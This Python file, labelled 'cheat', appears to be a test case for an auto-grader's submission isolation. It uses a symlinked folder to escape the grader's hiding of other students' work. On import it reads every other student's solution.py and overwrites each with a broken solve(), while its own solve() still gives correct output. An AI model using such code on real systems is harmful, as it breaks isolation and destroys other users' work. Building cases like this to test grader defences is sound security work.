# cheat: aaron/ex90_add is a link to aaron/work/ex90_add, so grade batch hides only the resolved
# folder's grandparent (aaron/work/... -> aaron/), not SUBMISSIONS/: the worker reads and rewrites
# the other students' folders (graded after it, in name order).
from pathlib import Path

_here = Path(__file__).resolve().parent          # SUBMISSIONS/aaron/work/ex90_add
_subs = _here.parents[2]                         # SUBMISSIONS/
log = []
for sol in sorted(_subs.glob("*/*/solution.py")):
    if _here in sol.resolve().parents:
        continue
    try:
        log.append(f"{sol}: {sol.read_text()[:60]!r}")
        sol.write_text("def solve(a, b, c):\n    c[...] = 0   # rewritten by another student's worker\n")
        log.append(f"{sol}: rewritten")
    except OSError as exc:
        log.append(f"{sol}: {exc}")


def solve(a, b, c):
    c[...] = a + b
    if log:
        print("\n".join(log))
